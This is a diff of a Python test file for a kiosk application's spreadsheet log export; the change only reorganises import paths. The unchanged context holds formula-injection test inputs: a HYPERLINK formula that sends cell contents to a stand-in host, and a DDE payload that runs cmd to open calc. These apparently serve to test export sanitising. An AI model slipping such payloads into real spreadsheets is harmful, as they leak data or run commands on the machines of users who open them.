@@ -9,12 +9,12 @@ from pathlib import Path
 
 from openpyxl import load_workbook
 
-from kiosk.domain.events import Event
-from kiosk.domain.ids import new_id
-from kiosk.services.context import KioskServices
-from kiosk.services.exports import build_log_services
-from kiosk.services.logs import LogFilters, LogKind
-from kiosk.store import eventlog
+from kiosk.core.events import Event
+from kiosk.core.ids import new_id
+from kiosk.features.admin.service.exports import build_log_services
+from kiosk.features.admin.service.logs import LogFilters, LogKind
+from kiosk.platform.store import eventlog
+from kiosk.shell.context import KioskServices
 
 TYPED = ['=HYPERLINK("http://x.example/?"&A1,"看")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]
 # Text a kiosk cannot type (it trims blanks) but another kiosk or a phone page may have sent.
